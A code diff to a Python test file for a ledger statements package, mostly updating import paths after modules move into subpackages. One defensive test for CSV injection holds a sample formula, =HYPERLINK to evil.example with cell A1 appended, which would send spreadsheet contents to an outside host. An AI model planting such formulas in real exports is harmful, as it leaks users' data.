@@ -11,12 +11,12 @@ from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from pypdf import PdfReader
 from reportlab.pdfbase.pdfmetrics import stringWidth
 
-from ledger.manifest import read_manifest, verify_manifest, write_manifest
+from ledger.statements.manifest import read_manifest, verify_manifest, write_manifest
 from ledger.money import format_amount
-from ledger.payouts import CloseMark, Timeline
-from ledger.periods import parse_period
-from ledger.statement_files import RENDERERS
-from ledger.statements import EventInfo, build_statements, summarise
+from ledger.payouts.arithmetic import CloseMark, Timeline
+from ledger.payouts.periods import parse_period
+from ledger.statements.files import RENDERERS
+from ledger.statements.lines import EventInfo, build_statements, summarise
 
 NOV = parse_period("2026-11")
 
@@ -173,7 +173,7 @@ def test_statements_without_test_model_say_no(tmp_path):
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
     """OWASP CSV injection: content, memo, model and share cells starting with = + - @, tab
     or CR get a leading apostrophe; amounts (negative ones too) stay plain numbers."""
-    from ledger.statement_files import csv_cell
+    from ledger.statements.files import csv_cell
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     statements, summary = sample(share="+1")
